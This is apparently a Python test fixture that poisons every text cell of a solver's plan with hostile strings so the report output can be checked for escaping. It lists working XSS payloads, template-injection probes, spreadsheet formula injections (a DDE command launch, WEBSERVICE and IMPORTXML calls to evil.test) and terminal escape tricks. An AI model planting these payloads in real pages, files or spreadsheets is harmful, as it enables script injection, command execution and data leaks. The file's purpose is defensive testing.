"""A hundred hostile names, and a plan that carries one in every text cell."""

from __future__ import annotations

import dataclasses
from typing import Any

import numpy as np

from solver.plan import TABLES, Plan
from solver.problem import Problem
from solver.table import Table
from tests.report.report_samples import make_plan, make_problem

MARK = "document.title='pwned';window.pwned=1"
_TAGS = (
    "<script>{m}</script>",
    "</title><script>{m}</script>",
    "</style><script>{m}</script>",
    "</desc></svg><script>{m}</script>",
    "<img src=x onerror={m}>",
    "<img src='http://evil.test/x.png'>",
    "<svg onload={m}>",
    "<svg><script>{m}</script></svg>",
    "<iframe src=javascript:{m}>",
    "<iframe srcdoc='<script>{m}</script>'>",
    "<body onload={m}>",
    "<a href=javascript:{m}>x</a>",
    "<object data=javascript:{m}>",
    "<embed src=javascript:{m}>",
    "<link rel=stylesheet href=http://evil.test/a.css>",
    "<style>@import 'http://evil.test/b.css';</style>",
    "<base href=http://evil.test/>",
    "<form action=http://evil.test/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<details open ontoggle={m}>",
    "<video src=x onerror={m}>",
    "<audio src=x onerror={m}>",
    "<input autofocus onfocus={m}>",
    "<marquee onstart={m}>",
    "<select autofocus onfocus={m}>",
    "<math><mi xlink:href='javascript:{m}'>",
    "<svg><animate onbegin={m} attributeName=x>",
    "<svg><use href='data:,x'/></svg>",
    "<svg><foreignObject><script>{m}</script></foreignObject></svg>",
    "<!--><script>{m}</script>-->",
    "<![CDATA[<script>{m}]]>",
    "<scr<script>ipt>{m}</scr</script>ipt>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<script\x00>{m}</script>",
    "<noscript><p title='</noscript><img src=x onerror={m}>'>",
    "<template><script>{m}</script></template>",
    "<table background=javascript:{m}>",
    "<div style=\"background:url('http://evil.test/c')\">",
    "<xss id=x onclick={m}>",
    "<isindex type=image src=x onerror={m}>",
)
_BREAKS = (
    '" onmouseover="{m}',
    "' onmouseover='{m}",
    '"><script>{m}</script>',
    "'><script>{m}</script>",
    '" style="x:url(//evil.test)',
    "` onerror=`{m}",
    '"/><script>{m}</script>',
    "--><script>{m}</script>",
    "]]><script>{m}</script>",
    "*/</style><script>{m}</script>",
    "javascript:{m}",
    "data:text/html,<script>{m}</script>",
    "&lt;script&gt;{m}",
    "&#60;script&#62;{m}",
    "\\u003cscript\\u003e{m}",
    "{{{{ 7*7 }}}}",
    "{{% for x in range(9) %}}",
    "${{7*7}}",
    "#{{7*7}}",
    "{{{{ plan.__class__ }}}}",
    "%s%s%n",
    "{{0}}",
    "{{m.__init__}}",
)
_CELLS = (
    "=1+1",
    '=HYPERLINK("http://evil.test","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "\n=1+1",
    '=WEBSERVICE("http://evil.test")',
    "a;=1+1",
    "a,=1+1",
    '"=1+1',
    "a\n=1+1",
    '=IMPORTXML("http://evil.test","//a")',
    "{{=1+1}}",
    "=*",
    "~*?",
    ">0",
    "<>",
    "2027-03",
)
_TERMINAL = (
    "[red]x[/red]",
    "[link=http://evil.test]x[/link]",
    "[/]",
    "[bold",
    "\x1b[2J",
    "\x1b]8;;http://evil.test\x07x",
    "\x07bell",
    "\x9b31m",
    "a\x08\x08b",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "\x00nul",
    "line\nbreak",
    "\ud800half",
)
PAYLOADS = tuple(p.format(m=MARK) for p in (*_TAGS, *_BREAKS, *_CELLS)) + _TERMINAL
_KEEP = {"kind", "market", "period", "starts"}  # words of the plan itself, never names


def poisoned() -> tuple[Problem, Plan]:
    """Every text cell starts with a payload, in turn; a region has the same name in problem and plan."""
    problem, plan = make_problem(), make_plan()
    made: dict[str, str] = {}

    def name(value: str) -> str:
        if value not in made:
            made[value] = PAYLOADS[len(made) % len(PAYLOADS)] + value
        return made[value]

    def table(old: Table, *, spread: bool) -> Table:
        columns: dict[str, Any] = {}
        for c, column in enumerate(old.names):
            values = old[column].tolist()
            if old[column].dtype != object or column in _KEEP:
                columns[column] = old[column]
            elif spread:
                columns[column] = text([PAYLOADS[(i + 7 * c) % len(PAYLOADS)] + v for i, v in enumerate(values)])
            else:
                columns[column] = text([name(v) for v in values])
        return Table(columns)

    tables: dict[str, Any] = {t: table(getattr(plan, t), spread=t in {"excuses", "served"}) for t in (*TABLES, "fleet")}
    fleet = tables["fleet"].take(np.arange(len(PAYLOADS)) % len(tables["fleet"]))
    tables["fleet"] = fleet.with_columns(workload=text(PAYLOADS), node=text(PAYLOADS), layout=text(PAYLOADS))
    provenance = dataclasses.replace(
        plan.provenance,
        overrides=PAYLOADS[0],
        as_of=PAYLOADS[1],
        version=PAYLOADS[2],
        engine=PAYLOADS[3],
        warnings=PAYLOADS,
    )
    sites = dataclasses.replace(
        problem.sites,
        provider=text([name(v) for v in problem.sites.provider]),
        region=text([name(v) for v in problem.sites.region]),
    )
    bad_plan = dataclasses.replace(plan, name="".join(PAYLOADS[:6]), provenance=provenance, **tables)
    return dataclasses.replace(problem, sites=sites), bad_plan


def text(values: Any) -> np.ndarray:
    """An object array of text."""
    made = np.empty(len(values), dtype=object)
    made[:] = list(values)
    return made
